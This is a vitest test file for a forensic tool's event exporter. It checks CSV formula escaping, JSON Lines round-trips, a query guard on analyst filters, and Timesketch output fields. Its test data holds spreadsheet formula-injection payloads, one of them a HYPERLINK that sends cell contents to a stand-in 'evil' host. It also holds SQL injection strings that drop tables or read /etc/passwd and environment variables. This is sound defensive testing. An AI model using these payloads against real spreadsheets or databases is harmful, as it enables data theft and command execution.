// The streaming exporter on real case files: CSV of a formula-payload corpus is inert, JSON Lines
// round-trip to the stored events, an analyst's --filter goes through the query guard, and the
// Timesketch export of the sample case carries Timesketch's required fields on every line.
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addCapture } from '../api/testing-case.ts';
import { buildSampleCase, defaultSamplesDir } from '../api/session.ts';
import { readCaseInfo } from '../case/case-info.ts';
import { QueryRefusedError } from '../query/query-errors.ts';
import { CaseStore } from '../store/case-store.ts';
import { EVENT_SELECT, readEvents } from '../store/event-rows.ts';
import { sql } from '../store/sql.ts';
import { tempDir } from '../testing/temp.ts';
import { exportEvents, ExportTooLargeError, type ExportOptions, type ExportSource } from './export-events.ts';
import { EXPORT_COLUMNS } from './event-lines.ts';

const dir = tempDir();
let store: CaseStore;

/** Text a spreadsheet would run as a formula, as captures can carry it. */
const PAYLOADS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', '=1,2\n"3"'];

beforeAll(async () => {
  store = await CaseStore.open(dir.file('case.duckdb'));
  await addCapture(
    store,
    '=evil.csv',
    PAYLOADS.map((p, i) => ({ ts_us: 1_000_000 + i, pid: 100 + i, process: p, op: 'openat', target: p, args: p, ret: '-1', error: p })),
    'hmi-01',
  );
  await addCapture(store, 'strace.txt', [
    { ts_us: 2_000_000, pid: 7, process: 'sh', op: 'execve', kind: 'api', category: 'process', target: '/bin/sh', args: '["sh","-c","id"]', ret: '0' },
    { ts_us: 3_000_000, pid: 7, process: 'sh', op: 'connect', category: 'network', target: '10.0.0.5:502', ret: '-1', error: 'ECONNREFUSED' },
  ]);
});
afterAll(() => {
  store.close();
  dir.remove();
});

async function exported(source: ExportSource, options: ExportOptions): Promise<string> {
  let text = '';
  await exportEvents(store, source, options, (block) => {
    text += block;
  });
  return text;
}

describe('CSV export', () => {
  it('escapes every cell that starts with a formula character, and keeps the value after the quote', async () => {
    const text = await exported({ filter: {} }, { format: 'csv' });
    const rows = parseCsv(text, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(1 + PAYLOADS.length + 2);
    const cells = rows.slice(1).flat();
    const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d*)?$/.test(c));
    expect(formulaLike).toEqual([]);
    for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
    expect(cells).toContain("'=evil.csv"); // the capture's file name too
    expect(cells).toContain('-1'); // a plain number stays a number
  });

  it('keeps only the chosen columns, in the order given, and follows the sort', async () => {
    const text = await exported({ filter: { pids: [7] }, sort: { column: 'ts_us', desc: true } }, { format: 'csv', columns: ['op', 'ts', 'pid'] });
    expect(text).toBe('op,ts,pid\nconnect,1970-01-01T00:00:03.000000Z,7\nexecve,1970-01-01T00:00:02.000000Z,7\n');
  });
});

describe('JSON Lines export', () => {
  it('round-trips every stored event column by column', async () => {
    const text = await exported({ filter: {} }, { format: 'jsonl' });
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const stored = await readEvents(store.read, sql`SELECT ${EVENT_SELECT} FROM event_rows e ORDER BY e.ts_us, e.event_id`);
    expect(lines).toHaveLength(stored.length);
    lines.forEach((line, i) => {
      const e = stored[i]!;
      expect(line).toMatchObject({ event_id: e.event_id, pid: e.pid, process: e.process, op: e.op, target: e.target, args: e.args, ret: e.ret, error: e.error });
      expect(Date.parse(String(line['ts'])) * 1000 + (e.ts_us % 1000)).toBe(e.ts_us);
    });
  });

  it('refuses rather than build more rows than the limit', async () => {
    await expect(exported({ filter: {} }, { format: 'jsonl', maxRows: 3 })).rejects.toBeInstanceOf(ExportTooLargeError);
  });
});

describe('an analyst filter (--filter)', () => {
  it('exports the events the condition keeps', async () => {
    const text = await exported({ where: "op = 'connect' AND error IS NOT NULL -- failed connects" }, { format: 'jsonl', columns: ['op', 'target'] });
    expect(text).toBe('{"op":"connect","target":"10.0.0.5:502"}\n');
  });

  it.each([
    ['1=1; DROP TABLE events', /exactly one statement/],
    ["read_text('/etc/passwd') IS NOT NULL", /read_text/],
    ["op IN (SELECT column0 FROM read_csv('/etc/passwd'))", /read_csv/],
    ['1=1 UNION ALL SELECT * FROM events', /more than one SELECT/],
    ['1=1 LIMIT 1', /LIMIT/],
    ['1=1 GROUP BY ALL', /GROUP BY/],
    ["getenv('HOME') <> ''", /getenv/],
    ['pid IN (SELECT 1 FROM duckdb_settings())', /duckdb_settings/],
    ['', /empty/],
  ])('refuses %j', async (where, reason) => {
    const attempt = exported({ where }, { format: 'csv' });
    await expect(attempt).rejects.toBeInstanceOf(QueryRefusedError);
    await expect(attempt).rejects.toThrow(reason);
  });
});

describe('Timesketch export of the sample case', () => {
  const sampleDir = tempDir();
  let sample: CaseStore;
  beforeAll(async () => {
    await buildSampleCase(defaultSamplesDir(), sampleDir.file('sample.duckdb'));
    sample = await CaseStore.open(sampleDir.file('sample.duckdb'), { readOnly: true, create: false });
  }, 60_000);
  afterAll(() => {
    sample.close();
    sampleDir.remove();
  });

  it('writes message, ISO 8601 UTC datetime, timestamp and timestamp_desc on every line, one per event', async () => {
    let text = '';
    const { rows } = await exportEvents(sample, { filter: {} }, { format: 'timesketch' }, (b) => {
      text += b;
    });
    const info = await readCaseInfo(sample);
    expect(rows).toBe(info.event_count);
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(info.event_count);
    for (const l of lines) {
      const o = JSON.parse(l) as Record<string, unknown>;
      expect(typeof o['message'] === 'string' && o['message'].length > 0 && !/[\r\n]/.test(o['message'])).toBe(true);
      expect(o['datetime']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/);
      expect(Math.floor(Number(o['timestamp']) / 1000)).toBe(Date.parse(String(o['datetime'])));
      expect(o['timestamp_desc']).toBe('Event Time');
      expect(o).toHaveProperty('op');
      expect(o).toHaveProperty('capture');
      expect(Object.keys(o).some((k) => k.startsWith('_'))).toBe(false);
    }
  });
});
